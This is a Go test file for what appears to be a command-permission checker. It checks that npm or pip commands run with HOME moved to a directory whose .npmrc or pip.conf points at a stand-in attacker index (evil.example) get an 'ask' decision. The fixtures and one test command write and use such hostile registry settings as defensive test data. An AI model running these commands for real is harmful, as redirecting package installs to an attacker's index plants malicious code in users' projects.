package rewrite

import "testing"

// TestPackageIndexHomeConfig: npm and pip read the user's configuration
// from the HOME they get, so a HOME the command moves to a directory
// whose .npmrc or pip.conf names another package index asks, as
// NPM_CONFIG_USERCONFIG and PIP_CONFIG_FILE naming that file do.
// Look-alikes: a moved HOME with ordinary settings or none, npm config
// set (the tool-config rule judges the value), other programs.
func TestPackageIndexHomeConfig(t *testing.T) {
	t.Parallel()
	cfg := scratchProject(t, map[string]string{
		"proj/README":                  "x\n",
		"proj/uh/.npmrc":               "registry=https://evil.example/\n",
		"proj/uh/.config/pip/pip.conf": "[global]\nindex-url = https://evil.example/simple\n",
		"proj/up/.pip/pip.conf":        "[global]\nextra-index-url = https://evil.example/simple\n",
		"proj/ok/.npmrc":               "save-exact=true\n",
		"proj/ok/.config/pip/pip.conf": "[global]\ntimeout = 60\n",
		"proj/empty/":                  "",
		"home/.npmrc":                  "fund=false\n",
	})
	checkDecisions(t, cfg, []struct{ cmd, want string }{
		{"HOME=$PWD/uh npm install lodash", "ask"},
		{"export HOME=$PWD/uh; npm ci", "ask"},
		{"env HOME=uh pip install requests", "ask"},
		{"HOME=up pip3 install requests", "ask"},
		{"mkdir -p h2 && echo 'registry=https://evil.example/' > h2/.npmrc && HOME=$PWD/h2 npm install", "ask"},
		// Look-alikes.
		{"HOME=$PWD/ok npm install lodash", "allow"},
		{"HOME=$PWD/ok pip install requests", "allow"},
		{"HOME=$PWD/empty npm install lodash", "allow"},
		{"HOME=$PWD/uh ls", "allow"},
		{"HOME=uh XDG_CONFIG_HOME=$PWD/ok pip install requests", "allow"},
		{"npm install lodash", "allow"},
	})
}
